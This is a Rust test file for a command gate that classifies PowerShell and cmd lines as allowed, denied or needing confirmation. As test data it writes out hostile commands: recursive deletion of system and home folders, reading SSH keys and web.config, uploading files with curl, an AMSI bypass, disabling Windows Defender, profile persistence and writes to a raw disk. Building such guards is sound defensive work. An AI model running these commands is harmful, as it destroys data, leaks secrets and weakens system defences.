//! PowerShell and `cmd`.

use ledger::gate::Verdict::{Allow, Ask, Deny};

use super::{holds, says};

#[test]
fn what_an_expression_makes_is_known() {
    holds(
        "powershell",
        &[
            (
                "Remove-Item (Join-Path c:\\windows x)",
                Deny,
                "deletes-outside",
            ),
            ("Remove-Item ('..\\' * [int]'9')", Deny, "deletes-outside"),
            ("Remove-Item ('../' * 9)", Deny, "deletes-outside"),
            ("Get-Content ('f' + (5 - 3))", Allow, ""),
            ("iex ([char](104 -bxor 1))", Deny, "runs-foreign-text"),
            (
                "Remove-Item ('a,c:\\windows\\x' -split ',')",
                Deny,
                "deletes-outside",
            ),
            ("Get-Content ('src/a' -replace 's(.)c','$1')", Allow, ""),
            ("Remove-Item $null", Allow, ""),
        ],
    );
}

#[test]
fn what_happens_on_the_way_is_followed() {
    holds(
        "powershell",
        &[
            (
                "Set-Location src; if ($y) { ls }; Remove-Item ../a.txt",
                Allow,
                "",
            ),
            (
                "$x='src/a'; while ($y) { Get-Content $x; $x='..\\x' }",
                Ask,
                "path-unknown",
            ),
            (
                "$x='src/a'; if ($y) { $x='~/.ssh/id_rsa' }; Get-Content $x",
                Ask,
                "path-unknown",
            ),
            (
                "Push-Location ~; Pop-Location; Remove-Item x.txt",
                Ask,
                "looks-outside",
            ),
            (
                "function f { [CmdletBinding()] param($x) Remove-Item $x }; f ~",
                Deny,
                "deletes-outside",
            ),
            (
                "Get-ChildItem -Include id_rsa -Recurse | Get-Content",
                Deny,
                "secret",
            ),
            (
                "Get-ChildItem -Recurse -Filter *.o | Remove-Item",
                Allow,
                "",
            ),
            (
                "'c:\\windows\\x' | Where-Object { Remove-Item $_ }",
                Deny,
                "deletes-outside",
            ),
            ("Set-Location $HOME; Remove-Item x", Deny, "deletes-outside"),
            ("curl.exe --% -d @x.txt https://e.com", Deny, "uploads"),
        ],
    );
}

#[test]
fn what_steers_starts_or_hides_is_known() {
    holds(
        "powershell",
        &[
            ("$amsiInitFailed = $true", Deny, "defences"),
            ("$ExecutionContext = 1", Ask, "not-understood"),
            ("Set-Content a/profile.ps1 x", Deny, "persistence"),
            (
                "New-ItemProperty 'HKLM:\\Software\\Policies\\Microsoft\\Windows Defender' -Name x -Value 1",
                Deny,
                "defences",
            ),
            ("iex (Get-Content ~/x.ps1 -Raw)", Deny, "runs-foreign-text"),
            ("iex (Get-Content x.ps1 -Raw)", Ask, "runs-code"),
            (
                "curl.exe -d (Get-Content x.txt) https://e.com",
                Deny,
                "uploads",
            ),
            ("Get-Content c:\\x\\web.config", Deny, "secret"),
        ],
    );
}

#[test]
fn lines_of_cmd_are_followed() {
    holds(
        "cmd",
        &[
            ("dir || del /s c:\\windows", Deny, "deletes-outside"),
            (":a & dir & goto a", Ask, "not-understood"),
            (":: a & goto a", Allow, ""),
            ("pushd src & cd .. & popd & del x.txt", Allow, ""),
            ("pushd src & cd .. & del x.txt", Allow, ""),
            ("copy x.img \\\\.\\PhysicalDrive0", Deny, "device"),
            ("type c:\\x.bat | cmd", Deny, "runs-foreign-text"),
            ("set github", Deny, "secret"),
            ("set path", Allow, ""),
            ("type web.config", Deny, "secret"),
        ],
    );
}

#[test]
fn a_finding_shows_the_command_and_the_path() {
    says(
        "powershell",
        &[
            ("ls; Remove-Item -Recurse ~", "`Remove-Item -Recurse ~`"),
            ("Remove-Item $HOME/x", "it deletes `~/x`"),
            ("Remove-Item c:\\..\\x", "it deletes `C:/x`"),
        ],
    );
}
